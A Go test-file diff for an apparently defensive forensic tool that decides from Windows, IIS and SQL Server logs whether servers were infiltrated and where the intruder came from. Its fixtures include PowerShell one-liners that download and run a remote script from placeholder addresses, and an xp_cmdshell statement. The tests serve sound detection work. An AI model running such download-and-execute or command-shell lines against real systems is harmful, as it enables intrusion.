@@ -199,3 +199,154 @@ func TestNewcomer(t *testing.T) {
 		})
 	}
 }
+
+// TestDoerBySID: the log of services knows who installed one by SID alone; logons tell whose that is. A service that an account
+// sets to start in the session in which it first came from an infiltrated server shows whose hand it was, where the SID of
+// another, or one that no log names, does not.
+func TestDoerBySID(t *testing.T) {
+	const one, two = "S-1-5-21-1-2-3-1303", "S-1-5-21-1-2-3-1304"
+	for _, c := range []struct {
+		name, sid string
+		want      event.Judgement
+	}{{"his", one, event.Infiltrated}, {"another's", two, event.Suspected}, {"unknown", "S-1-5-21-9-9-9-1303", event.Suspected}} {
+		w := newWorld("F", "T")
+		w.opt.Account = func(sid string) string { return map[string]string{one: `hosp\svc_site`, two: `hosp\adm`}[sid] }
+		w.find("F", "web shell", hour(0), "User", "www")
+		w.move("F", "T", `HOSP\svc_site`, "network logon", hour(60))
+		w.find("T", "program set to start", hour(60.6), "ServiceName", "GfxSvc", "ImagePath", `C:\ProgramData\x\gfx.exe`, "Security_UserID", c.sid)
+		v := w.judge()["T"]
+		if v.Verdict != c.want {
+			t.Errorf("%s: %s because %+v", c.name, v.Verdict, v.Because)
+		}
+		if c.want == event.Infiltrated && v.Since.EarliestPossible > hour(60) {
+			t.Errorf("%s: since %+v", c.name, v.Since)
+		}
+	}
+}
+
+// TestScriptCalled: a script among a site's uploads that one stranger calls joins what the intruder did there; what many call,
+// or was called so before, is the site's own.
+func TestScriptCalled(t *testing.T) {
+	const script = "/site/uploads/rx.aspx"
+	for _, c := range []struct {
+		name   string
+		many   bool
+		before bool
+		mate   bool
+		want   event.Judgement
+	}{
+		{"and a detection", false, false, true, event.Infiltrated},
+		{"alone", false, false, false, event.Suspected},
+		{"used by many", true, false, true, event.Suspected},
+		{"used before", false, true, true, event.Suspected},
+	} {
+		w := newWorld("WEB", "F")
+		w.find("F", "web shell", hour(0), "User", "www")
+		w.find("WEB", "script called", hour(2), "cs-uri-stem", script, "c-ip", "203.0.113.9")
+		if c.many {
+			w.find("WEB", "script of many", hour(3), "cs-uri-stem", script)
+		}
+		if c.before {
+			w.find("WEB", "script called", hour(-24*9), "cs-uri-stem", script, "c-ip", "203.0.113.77")
+		}
+		if c.mate {
+			w.find("WEB", "antivirus detection", hour(4))
+		}
+		got := w.judge()["WEB"]
+		if got.Verdict != c.want {
+			t.Errorf("%s: %s because %+v, against %+v", c.name, got.Verdict, got.Because, got.Against)
+		}
+		if c.want == event.Infiltrated && (len(got.From) == 0 || got.From[0].Address == nil || *got.From[0].Address != "203.0.113.9") {
+			t.Errorf("%s: from %+v", c.name, got.From)
+		}
+	}
+}
+
+// TestAuditNamesClient: an audit of SQL Server says in its text who sent a statement, and from where.
+func TestAuditNamesClient(t *testing.T) {
+	w := newWorld("DB", "APP")
+	w.find("DB", "database command of the attacker", hour(1), "Data", "audit_schema_version:1\naction_id:EX  \nclient_ip:10.0.2.4\nsession_server_principal_name:HOSP\\svc_lis\nserver_principal_name:NT AUTHORITY\\SYSTEM\nstatement:EXEC xp_cmdshell 'x:y'")
+	got := w.judge()["DB"]
+	if len(got.From) != 1 || got.From[0].Address == nil || *got.From[0].Address != "10.0.2.4" || got.From[0].Account == nil || *got.From[0].Account != `hosp\svc_lis` {
+		t.Errorf("%+v", got.From)
+	}
+}
+
+// TestScriptFetched: the address that a script was fetched from is where it came from; one inside is none.
+func TestScriptFetched(t *testing.T) {
+	for _, c := range []struct{ text, want string }{
+		{"IEX (New-Object Net.WebClient).DownloadString('http://198.18.0.7/a')", "198.18.0.7"},
+		{"iex (irm http://198.18.0.7:8080/a); irm http://10.1.1.1/b", "198.18.0.7"},
+		{"iex (irm http://10.1.1.1/a)", ""},
+	} {
+		w := newWorld("TS")
+		w.find("TS", "script fetched", hour(1), "ScriptBlockText", c.text)
+		w.find("TS", "protection off", hour(2))
+		got := w.judge()["TS"]
+		address := ""
+		if len(got.From) > 0 && got.From[0].Address != nil {
+			address = *got.From[0].Address
+		}
+		if got.Verdict != event.Infiltrated || len(got.From) > 1 || address != c.want {
+			t.Errorf("%q: %s from %+v", c.text, got.Verdict, got.From)
+		}
+	}
+}
+
+// TestDepartureIsNoSession: with whose password the intruder went on from a server does not say in whose session he sat there:
+// whoever had opened one with that account before is not blamed.
+func TestDepartureIsNoSession(t *testing.T) {
+	w := newWorld("S", "T", "JUMP")
+	w.find("S", "web shell", hour(0), "User", "www")
+	w.move("JUMP", "S", `HOSP\adm`, "rdp", hour(-1))
+	w.move("S", "T", `HOSP\adm`, "network logon", hour(5))
+	w.find("T", "credentials read", hour(5.1), "User", `HOSP\adm`)
+	w.find("T", "protection off", hour(5.2), "User", `HOSP\adm`)
+	got := w.judge()
+	if lineOf(got["S"], "departure") == nil {
+		t.Fatalf("S: %+v", got["S"].Because)
+	}
+	if d := lineOf(got["JUMP"], "departure"); d != nil {
+		t.Errorf("JUMP: %+v", d)
+	}
+}
+
+// TestLogonIsLentToItsOwner: where the log names who installed a service, only that account's logon right before is its source.
+func TestLogonIsLentToItsOwner(t *testing.T) {
+	for _, c := range []struct{ who, want string }{{`hosp\adm`, "DESK"}, {`hosp\other`, ""}} {
+		w := newWorld("T")
+		w.opt.Account = func(string) string { return c.who }
+		w.move("DESK", "T", `HOSP\adm`, "network logon", hour(0.99))
+		w.find("T", "program set to start", hour(1), "ServiceName", "GfxSvc", "Security_UserID", "S-1-5-21-1-2-3-1303")
+		w.find("T", "credentials read", hour(2))
+		got := w.judge()["T"].From
+		source := ""
+		if len(got) > 0 && got[0].Address != nil {
+			source = *got[0].Address
+		}
+		if !strings.EqualFold(source, c.want) {
+			t.Errorf("%s: from %+v", c.who, got)
+		}
+	}
+}
+
+// TestBeforeItHadItsName: what was logged under the name that Windows' setup makes up is of the template that a server was made
+// from, but for what is decisive alone; a server that kept such a name is judged as any other.
+func TestBeforeItHadItsName(t *testing.T) {
+	for _, c := range []struct {
+		server, computer, line string
+		want                   event.Judgement
+	}{
+		{"LAB2", "WIN-4J2K9QX7A1B.hosp.local", "remote service", event.NoEvidence},
+		{"LAB2", "LAB1", "remote service", event.Suspected},
+		{"LAB2", "WIN-4J2K9QX7A1B", "encrypted here", event.Infiltrated},
+		{"WIN-4J2K9QX7A1B", "WIN-4J2K9QX7A1B", "remote service", event.Suspected},
+	} {
+		w := newWorld(c.server)
+		w.watched(c.server, hour(48))
+		w.find(c.server, c.line, hour(1), "ServiceName", "PSEXESVC", "Computer", c.computer)
+		if got := w.judge()[event.ServerID(c.server)]; got.Verdict != c.want {
+			t.Errorf("%s as %s: %s because %+v", c.server, c.computer, got.Verdict, got.Because)
+		}
+	}
+}
